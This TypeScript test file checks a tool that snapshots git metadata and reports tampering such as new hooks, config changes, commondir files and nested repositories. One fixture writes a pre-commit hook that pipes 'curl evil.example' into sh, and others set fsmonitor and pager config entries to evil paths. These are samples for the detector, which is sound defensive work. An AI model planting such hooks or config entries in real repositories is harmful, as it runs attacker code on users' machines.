import { execFileSync } from 'node:child_process';
import { appendFileSync, chmodSync, mkdirSync, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { diffGitMetadata, snapshotGitMetadata } from './git-metadata.js';
import { describeGitChanges } from './git-report-text.js';

const roots: string[] = [];
afterEach(() => {
  for (const root of roots.splice(0)) rmSync(root, { recursive: true, force: true });
});

function repository(): string {
  const root = mkdtempSync(join(tmpdir(), 'nexora-git-meta-'));
  roots.push(root);
  const git = (...args: string[]): void => void execFileSync('git', ['-C', root, '-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], { stdio: 'ignore' });
  git('init', '-q');
  writeFileSync(join(root, 'a.txt'), 'one\n');
  git('add', 'a.txt');
  git('commit', '-qm', 'first');
  return root;
}

describe('git metadata baseline', () => {
  it('reports nothing for a commit: objects, refs, index and logs are the repository’s data', async () => {
    const root = repository();
    const before = await snapshotGitMetadata(root);
    writeFileSync(join(root, 'a.txt'), 'two\n');
    execFileSync('git', ['-C', root, '-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '-qam', 'second']);
    const after = await snapshotGitMetadata(root);
    expect(diffGitMetadata(before, after)).toEqual([]);
    expect(before.gitPaths).toEqual(['.git']);
  });

  it('reports a hook, a config change, a commondir and a new repository further down, the ones that run code first', async () => {
    const root = repository();
    const before = await snapshotGitMetadata(root);
    writeFileSync(join(root, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil.example | sh\n');
    chmodSync(join(root, '.git', 'hooks', 'pre-commit'), 0o755);
    appendFileSync(join(root, '.git', 'config'), '[core]\n\tfsmonitor = /tmp/evil\n');
    writeFileSync(join(root, '.git', 'commondir'), '../evil-git\n');
    writeFileSync(join(root, '.git', 'description'), 'changed\n');
    mkdirSync(join(root, 'vendor', 'lib', '.git'), { recursive: true });
    writeFileSync(join(root, 'vendor', 'lib', '.git', 'config'), '[core]\n\tpager = evil\n');
    const after = await snapshotGitMetadata(root);
    const changes = diffGitMetadata(before, after);
    expect(changes.map((change) => `${change.change} ${change.path}`)).toEqual([
      'added .git/commondir',
      'modified .git/config',
      'added .git/hooks/pre-commit',
      'added vendor/lib/.git',
      'modified .git/description',
    ]);
    expect(changes.slice(0, 4).every((change) => change.runsOnHost)).toBe(true);
    const report = describeGitChanges(changes, { workspaceDir: root });
    expect(report).toContain('.git/hooks/pre-commit — runs as a git hook on the host');
    expect(report).toContain('core.fsmonitor');
  });

  it('reports a hook that was made executable, and one removed', async () => {
    const root = repository();
    writeFileSync(join(root, '.git', 'hooks', 'post-checkout'), '#!/bin/sh\n');
    chmodSync(join(root, '.git', 'hooks', 'post-checkout'), 0o644);
    const before = await snapshotGitMetadata(root);
    chmodSync(join(root, '.git', 'hooks', 'post-checkout'), 0o755);
    rmSync(join(root, '.git', 'info'), { recursive: true, force: true });
    const changes = diffGitMetadata(before, await snapshotGitMetadata(root));
    expect(changes.map((change) => `${change.change} ${change.path}`)).toEqual(expect.arrayContaining(['made-executable .git/hooks/post-checkout', 'removed .git/info']));
  });

  it('says when a limit cut the walk short instead of reporting a clean workspace', async () => {
    const root = repository();
    for (let index = 0; index < 30; index += 1) mkdirSync(join(root, `d${index}`));
    const snapshot = await snapshotGitMetadata(root, { maxDirectories: 5 });
    expect(snapshot.incomplete).toBe(true);
    expect(describeGitChanges([], { incomplete: true, workspaceDir: root })).toContain('too large to check completely');
  });

  it('leaves out of a late baseline what was created after the session began (birth times)', async () => {
    const root = repository();
    const startedAt = new Date();
    // File times come from the kernel's coarse clock, which may lag the wall clock by a tick.
    while (Date.now() <= startedAt.getTime() + 50) await new Promise((resolve) => setTimeout(resolve, 5));
    mkdirSync(join(root, 'sub', '.git'), { recursive: true });
    writeFileSync(join(root, '.git', 'commondir'), 'evil\n');
    const late = await snapshotGitMetadata(root, { createdBefore: startedAt });
    // The file systems Nexora runs on (ext4, xfs, btrfs, tmpfs) record birth times.
    expect(statSync(join(root, 'sub', '.git')).birthtimeMs).toBeGreaterThan(0);
    expect(late.gitPaths).toEqual(['.git']);
    const changes = diffGitMetadata(late, await snapshotGitMetadata(root));
    expect(changes.map((change) => `${change.change} ${change.path}`)).toEqual(['added .git/commondir', 'added sub/.git']);
  });
});
